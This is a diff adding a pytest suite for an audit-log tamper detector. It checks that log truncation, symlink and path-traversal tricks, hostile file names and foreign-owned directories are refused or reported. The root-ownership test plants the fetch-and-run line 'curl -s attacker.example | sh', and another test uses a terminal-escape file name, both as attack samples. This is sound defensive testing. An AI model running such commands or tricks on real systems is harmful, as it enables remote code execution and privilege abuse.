@@ -1,0 +1,248 @@
+"""Someone who can write the audit directory but does not hold the sealing key edits the log after
+the fact: every change that removes or alters sealed records must make `adl-audit verify` fail."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import time
+from pathlib import Path
+
+import orjson
+import pytest
+
+from enforcer.audit import AuditUnavailable, AuditWriter, WriterSettings, records
+from enforcer.audit.writer import log_files
+from enforcer.cli.audit import main as audit_main
+
+
+def _sealed_log(tmp_path: Path, **settings: int) -> Path:
+    directory = tmp_path / "audit"
+    options = WriterSettings(checkpoint_records=15, **settings)  # type: ignore[arg-type]
+    with AuditWriter(directory, tmp_path / "key" / "audit.pem", settings=options) as w:
+        for i in range(60):
+            w.append(records.DECISION, {"agent": "urn:a", "decision": "deny", "n": i})
+    return directory
+
+
+def _verify(directory: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
+    code = audit_main(["--dir", str(directory), "verify"])
+    captured = capsys.readouterr()
+    return code, captured.out + captured.err
+
+
+def test_cutting_the_log_back_to_a_checkpoint_and_removing_head_is_named(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    directory = _sealed_log(tmp_path)
+    assert _verify(directory, capsys)[0] == 0
+    path = log_files(directory)[0]
+    lines = path.read_bytes().splitlines(keepends=True)
+    checkpoints = [i for i, line in enumerate(lines) if b'"intent":"adl.enforcer.checkpoint"' in line]
+    kept = checkpoints[1] + 1  # every record after the second checkpoint goes, writer.close included
+    path.write_bytes(b"".join(lines[:kept]))
+    (directory / "HEAD.json").unlink()
+    code, out = _verify(directory, capsys)
+    assert code == 2, out
+    assert f"TAMPERED at seq {kept + 1}: HEAD.json is missing" in out
+
+
+def test_a_log_never_sealed_needs_no_head(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    directory = _sealed_log(tmp_path)
+    path = log_files(directory)[0]
+    lines = path.read_bytes().splitlines(keepends=True)
+    first_checkpoint = next(i for i, line in enumerate(lines) if b'"intent":"adl.enforcer.checkpoint"' in line)
+    path.write_bytes(b"".join(lines[:first_checkpoint]))
+    (directory / "HEAD.json").unlink()
+    code, out = _verify(directory, capsys)
+    assert code == 0, out
+    assert "unsealed:" in out
+
+
+def test_a_file_name_chosen_by_the_tamperer_reaches_the_terminal_escaped(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    directory = _sealed_log(tmp_path)
+    (directory / "audit-\x1b]0;owned\x07\x1b[2J.jsonl").write_bytes(b"")
+    code, out = _verify(directory, capsys)
+    assert code == 2, out
+    assert "TAMPERED at seq 1:" in out and "\\x1b]0;owned" in out
+    assert "\x1b" not in out and "\x07" not in out
+
+
+def _victim(tmp_path: Path) -> Path:
+    """An empty file root owns (a file that is not empty does not end in a record: refused anyway)."""
+    victim = tmp_path / "victim-rc"
+    victim.write_text("")
+    return victim
+
+
+def test_the_writer_does_not_follow_a_symlinked_log_file(tmp_path: Path) -> None:
+    """Whoever can write the audit directory makes the newest log file a symlink: the daemon (root)
+    would append records, whose strings callers chose, to the file it names."""
+    directory = _sealed_log(tmp_path, rotate_bytes=4000)  # the file before names the newest
+    assert len(log_files(directory)) > 2
+    victim = _victim(tmp_path)
+    newest = log_files(directory)[-1]
+    newest.rename(directory / "saved.jsonl")
+    newest.symlink_to(victim)
+    with pytest.raises(AuditUnavailable):
+        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
+    assert victim.read_text() == ""
+
+
+def _rotation_to(directory: Path, next_file: str) -> None:
+    """Append a rotation marker (its hash recomputed: the chain is unkeyed) naming `next_file`."""
+    path = log_files(directory)[-1]
+    lines = path.read_bytes().splitlines(keepends=True)
+    last = orjson.loads(lines[-1])
+    seq = last["seq"] + 1
+    head, tail = records.envelope_parts(
+        log_id=last["id"].rsplit(".", 1)[0],
+        seq=seq,
+        prev=last["hash"],
+        ts_ns=time.time_ns(),
+        kind=records.ROTATE,
+        source="adl-enforcer",
+        corr="x",
+        payload={"next_file": next_file},
+    )
+    digest = hashlib.sha256(head + tail).hexdigest()
+    path.write_bytes(b"".join(lines) + head + b',"hash":"' + digest.encode() + b'"' + tail + b"\n")
+    assert records.check_line_hash(path.read_bytes().splitlines()[-1]) is None
+
+
+def test_the_writer_does_not_follow_a_rotation_out_of_the_directory(tmp_path: Path) -> None:
+    directory = _sealed_log(tmp_path, rotate_bytes=4000)
+    victim = _victim(tmp_path)
+    _rotation_to(directory, f"../{victim.name}")
+    with pytest.raises(AuditUnavailable):
+        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
+    assert victim.read_text() == ""
+
+
+def test_follow_does_not_read_a_file_a_rotation_record_names_outside_the_directory(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    directory = _sealed_log(tmp_path, rotate_bytes=4000)
+    secret = tmp_path / "secret.json"
+    secret.write_text('{"token": "s3cr3t"}\n')
+    _rotation_to(directory, f"../{secret.name}")
+    code = audit_main(["--dir", str(directory), "follow", "--from-start", "--interval", "0.01"])
+    captured = capsys.readouterr()
+    assert "s3cr3t" not in captured.out
+    assert code == 2 and "not the next log file" in captured.err
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="hands the directory to another uid")
+def test_a_directory_another_user_owns_is_refused(tmp_path: Path) -> None:
+    """An operator points the log at a directory another user made first (under /tmp, say). Its
+    owner sets a torn line aside in advance: the next writer (root) moves the torn bytes to
+    torn/<file>.<offset>, which the owner made a symlink to a file root's shell reads."""
+    directory = _sealed_log(tmp_path)
+    victim = tmp_path / "victim-rc"
+    victim.write_text("# root's shell reads this\n")
+    newest = log_files(directory)[-1]
+    kept = newest.read_bytes()
+    # what the directory's owner can do: replace a file of root's by its own copy, plant names
+    os.chown(directory, 65534, 65534)
+    copy = directory / "copy"
+    copy.write_bytes(kept + b"curl -s attacker.example | sh")
+    copy.replace(newest)
+    (directory / "torn").mkdir()
+    (directory / "torn" / f"{newest.name}.{len(kept)}").symlink_to(victim)
+    with pytest.raises(AuditUnavailable, match="owned by uid 65534"):
+        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
+    assert victim.read_text() == "# root's shell reads this\n"
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="hands a directory to another uid")
+def test_a_directory_below_one_another_user_can_write_is_refused(tmp_path: Path) -> None:
+    parent = tmp_path / "shared"
+    parent.mkdir()
+    os.chown(parent, 65534, 65534)  # its owner can rename the log directory away and put its own in place
+    with pytest.raises(AuditUnavailable, match="owned by uid 65534"):
+        AuditWriter(parent / "audit", tmp_path / "key" / "audit.pem").close()
+    group_writable = tmp_path / "group"
+    group_writable.mkdir(mode=0o770)
+    group_writable.chmod(0o770)
+    with pytest.raises(AuditUnavailable, match="writable by group or others"):
+        AuditWriter(group_writable, tmp_path / "key" / "audit.pem").close()
+
+
+EDITED_LINES = [
+    b'{"seq":41,"intent":"adl.enforcer.decision","corr":[1],"ts":5,"payload":{"rules":5,"decision":"deny"}}',
+    b'{"seq":41,"intent":"adl.enforcer.decision","payload":{"rules":{"a":1},"decision":"deny"}}',
+    b'{"seq":41,"intent":"adl.enforcer.exit","corr":{"a":1},"payload":{"rules":[1,null],"decision":"deny"}}',
+    b'{"seq":41,"intent":"adl.enforcer.launch","corr":"s","ts":[],"payload":[]}',
+    b'{"seq":[],"prev":{},"intent":1}',
+]
+EDITED_HEADS = [b'{"seq":"x","hash":1,"sig":5}', b'{"seq":null,"hash":null,"sig":null}']
+READERS = [
+    ("search",),
+    ("search", "--json"),
+    ("search", "--seq", "1..50"),
+    ("search", "--since", "-1d"),
+    ("search", "--rule", "x*"),
+    ("report",),
+    ("report", "--json"),
+    ("show", "41"),
+]
+
+
+@pytest.mark.parametrize("edit", [("line", e) for e in EDITED_LINES] + [("head", e) for e in EDITED_HEADS])
+def test_an_edited_line_or_head_is_reported_not_a_crash(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], edit: tuple[str, bytes]
+) -> None:
+    """An edited log must not stop the auditor's tools: verify names it (exit 2, which scripts test
+    for: a crash exits 1), the readers go on with the other records."""
+    directory = _sealed_log(tmp_path)
+    where, data = edit
+    if where == "head":
+        (directory / "HEAD.json").write_bytes(data)
+    else:
+        path = log_files(directory)[0]
+        path.write_bytes(path.read_bytes() + data + b"\n")
+    code, out = _verify(directory, capsys)
+    assert code == 2 and "TAMPERED" in out, out
+    for argv in READERS:
+        assert audit_main(["--dir", str(directory), *argv]) in (0, 1), argv
+        capsys.readouterr()
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="plants a symlink as another uid")
+def test_a_directory_named_through_another_users_symlink_is_refused(tmp_path: Path) -> None:
+    """The operator names /tmp/adl-audit; another user made that name a symlink first, to a
+    directory of root's where the log's files would be read as something else."""
+    shared = tmp_path / "sticky"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    target = tmp_path / "roots-dir"
+    target.mkdir()
+    link = shared / "adl-audit"
+    link.symlink_to(target)
+    os.chown(link, 65534, 65534, follow_symlinks=False)
+    with pytest.raises(AuditUnavailable, match="symlink of uid 65534"):
+        AuditWriter(link, tmp_path / "key" / "audit.pem").close()
+    assert list(target.iterdir()) == []
+
+
+def test_a_live_log_has_its_head_from_its_first_checkpoint_on(tmp_path: Path) -> None:
+    """verify takes a checkpoint without HEAD for a cut log (above): a writer that defers HEAD to
+    its flusher must not leave its first checkpoint in that state, or a verify at that moment
+    would cry wolf."""
+    directory = tmp_path / "audit"
+    settings = WriterSettings(background_flush=True, checkpoint_records=5, group_ms=10_000, group_records=10_000)
+    writer = AuditWriter(directory, tmp_path / "key" / "audit.pem", settings=settings)
+    try:
+        seq = 0
+        while not any(b'"intent":"adl.enforcer.checkpoint"' in line for line in _lines(directory)):
+            seq = writer.append(records.DECISION, {"n": seq}).seq
+            assert seq < 50
+        assert (directory / "HEAD.json").exists()
+    finally:
+        writer.close()
+
+
+def _lines(directory: Path) -> list[bytes]:
+    return [line for path in log_files(directory) for line in path.read_bytes().splitlines()]
